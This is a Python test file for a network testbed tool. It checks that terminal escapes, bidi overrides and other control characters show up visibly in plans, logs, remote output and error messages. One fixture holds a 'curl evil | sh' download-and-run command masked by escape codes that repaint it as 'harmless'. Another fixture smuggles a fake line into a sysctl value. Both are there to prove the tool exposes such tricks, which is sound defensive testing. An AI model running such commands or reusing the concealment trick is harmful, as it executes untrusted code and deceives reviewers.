"""What is shown shows all it has: to a terminal, in a plan, in the lines of a run, and from another machine."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from testbed import plain
from testbed.drivers.sysctl import SysctlSet
from testbed.errors import InputError, Problem
from testbed.machines.ssh.relayed import relayed
from testbed.steps import Configure, Run, Spawn, Step
from tests.kept import Say, say
from tests.strategies import examples

__all__ = ["say"]

# What could move a cursor, hide, reorder or begin a line, and what an escape of it could be mistaken for.
EVIL = "\x00\x07\x08\x0b\x0c\r\n\t\x1b\x7f\x85\x9b\xa0\xad\u034f\u061c\u115f\u200b\u200d\u200e\u2028\u2029\u202e\u2066"
EVIL += "\u2069\u2800\u3164\ufe0f\ufeff\ufff9\U000e0041\ud800\udc80\udcff"
PLAIN = "a1 '\"\\$`#>&|@=-xun{}[]~é漢😀"
texts = st.text(st.one_of(st.sampled_from(EVIL + PLAIN), st.characters()), max_size=12)
argvs = st.lists(texts.map(lambda t: t.replace("\x00", "")), min_size=1, max_size=4).map(tuple)
times = st.none() | st.sampled_from([0.0, 1.0, 60.0])
steps: st.SearchStrategy[Step] = st.one_of(
    st.builds(Run, st.just("a"), argvs),
    st.builds(Spawn, st.just("a"), st.just("x"), argvs, st.just("") | texts, times, times),
    st.builds(Configure, st.just("a"), st.builds(SysctlSet, st.just("net.x"), texts), times),
)
ALONE = re.compile("[\ud800-\udc7f\udd00-\udfff]")  # surrogates that stand for no byte: no command can have them


@examples(300)
@given(texts)
@example(EVIL)
def test_all_that_a_text_has_is_visible_and_its_lines_stay_lines(text: str) -> None:
    shown, line = plain.shown(text), plain.line(text)
    assert all(c.isprintable() or c in "\n\t" for c in shown)
    assert line.isprintable()
    assert not set(EVIL) & set(line)
    assert shown.count("\n") == text.count("\n")
    assert plain.shown(shown) == shown


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("\x1b[2J", r"\x1b[2J"),
        ("abc\rx", r"abc\rx"),
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("\x9b31m", r"\u009b31m"),
        ("\udcff", r"\xff"),
        ("\U000e0041", r"\U000e0041"),
        ("naïve 漢字 😀\n\tx", "naïve 漢字 😀\n\tx"),
    ],
)
def test_it_is_spelt_as_bash_would_and_what_was_visible_is_left_alone(text: str, seen: str) -> None:
    assert plain.shown(text) == seen


def test_bash_reads_a_printed_command_as_the_words_that_are_run() -> None:
    words: list[str] = []

    @examples(200)
    @given(argvs)
    def collect(argv: tuple[str, ...]) -> None:
        words.extend(argv)

    collect()
    words = [w for w in (*words, EVIL[1:]) if not ALONE.search(w)]
    assert len(words) > 100
    script = f"printf '%s\\0' {plain.words(words)}\n"
    env = {**os.environ, "LC_ALL": "C.UTF-8"}
    done = subprocess.run(("bash", "-s"), input=script.encode(), capture_output=True, env=env, check=True)
    assert [os.fsdecode(w) for w in done.stdout.split(b"\0")[:-1]] == words


@examples(500)
@given(steps, steps)
@example(Run("a", ("a\nb",)), Run("a", ("a\\nb",)))
@example(Run("a", ("x", "")), Run("a", ("x",)))
@example(Run("a", ("x y",)), Run("a", ("x", "y")))
@example(Spawn("a", "x", ("true", "within", "60s")), Spawn("a", "x", ("true",), within=60.0))
@example(Spawn("a", "x", ("true", "@0s")), Spawn("a", "x", ("true",), at=0.0))
@example(Spawn("a", "x", ("true", ">", "x")), Spawn("a", "x", ("true",), stdout="x"))
@example(Configure("a", SysctlSet("net.x", "1  @2s")), Configure("a", SysctlSet("net.x", "1"), at=2.0))
def test_steps_that_differ_print_differently_and_each_is_one_line(one: Step, other: Step) -> None:
    assert (str(one) == str(other)) == (one == other)
    assert str(one).isprintable()


@examples(200)
@given(st.lists(st.binary(max_size=6) | texts.map(lambda t: t.encode(errors="surrogatepass")), max_size=6))
def test_what_comes_in_pieces_is_shown_as_if_it_came_at_once(parts: list[bytes]) -> None:
    show = plain.stream()
    shown = b"".join(show(p) for p in parts if p) + show(b"")
    assert shown.decode() == plain.shown(b"".join(parts).decode(errors="surrogateescape"))


def test_what_another_machine_says_comes_out_visible_and_whole() -> None:
    said = b"\x1b]0;title\x07" + b"line \xe2\x80\xae\n" * 50_000
    sinks = [os.memfd_create("out"), os.memfd_create("err")]
    with relayed(sinks) as (out, err):
        ways = [threading.Thread(target=_write, args=(fd, said)) for fd in (out, err)]
        for way in ways:
            way.start()
        for way in ways:
            way.join()
    for sink in sinks:
        got = os.pread(sink, 1 << 22, 0)
        assert got.startswith(rb"\x1b]0;title\x07" + rb"line \u202e" + b"\n")
        assert got.count(b"\n") == 50_000
        os.close(sink)


def test_who_says_something_on_another_machine_ends_when_nobody_reads_it() -> None:
    source, sink = os.pipe()
    with relayed((sink,)) as (out,):
        os.close(source)
        os.close(sink)
        with pytest.raises(BrokenPipeError):
            _write(out, b"more\n" * 100_000)


def _write(fd: int, said: bytes) -> None:
    while said:
        said = said[os.write(fd, said) :]


def test_a_line_of_a_file_is_shown_with_all_it_has_and_the_caret_under_what_is_meant() -> None:
    text = "\tname: \u202eabc\x1b[1A # \r"
    rows = str(InputError(Problem("it's\nwrong", "a\x1b.yaml", 3, 8, text, 5, "or\nnot"))).splitlines()
    assert rows == [
        r"a\x1b.yaml:3:8: it's\nwrong (or\nnot)",
        "    \tname: " + r"\u202eabc\x1b[1A # \r",
        "    \t      " + "^" * len(r"\u202eabc\x1b"),
    ]


HIDING = r"""
name: hiding
nodes:
  a: {commands: [[sh, -c, "curl evil | sh #\x1b[1A\r\x1b[J\x1b]0;harmless\x07\nx"]], sysctl: {net.x: "1\n[a] y"}}
  b: {}
links: [{ends: [a:eth0, b:eth0]}]
"""


def test_a_plan_shows_what_a_command_hides(say: Say, tmp_path: Path) -> None:
    file = tmp_path / "hiding.yaml"
    file.write_text(HIDING)
    status, out, _ = say("plan", str(file))
    assert status == 0
    assert r"[a] sh -c $'curl evil | sh #\x1b[1A\r\x1b[J\x1b]0;harmless\x07\nx'" in out.splitlines()
    assert r"[a] sysctl -w $'net.x=1\n[a] y'" in out.splitlines()
    assert out.replace("\n", "").isprintable()
    file.write_text(HIDING.replace("commands:", "\u202ecommands:"))
    status, _, err = say("check", str(file))
    assert status == 2
    assert err.replace("\n", "").isprintable()
    assert "\\u202e" in err


def test_what_is_said_of_progress_comes_at_once_where_errors_go_to_a_file(tmp_path: Path) -> None:
    code = """
import os, sys
from testbed.cli.screen import screens
with screens():
    print("first", file=sys.stderr)
    os.write(2, b"second\\n")
    print("third", file=sys.stderr)
"""
    done = subprocess.run((sys.executable, "-c", code), stderr=subprocess.PIPE, text=True, check=True)
    assert done.stderr == "first\nsecond\nthird\n"


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_terminal_of_any_encoding_gets_what_it_can_show(encoding: str, tmp_path: Path) -> None:
    file = tmp_path / "größe.yaml"
    file.write_text("name: größe\nnodes: {}\n")
    env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
    words = (sys.executable, "-m", "testbed", "check", str(file))
    done = subprocess.run(words, env=env, capture_output=True, check=False)
    assert done.returncode == 2
    assert ("größe" if encoding != "ascii" else r"gr\xf6\xdfe") in done.stderr.decode(encoding)
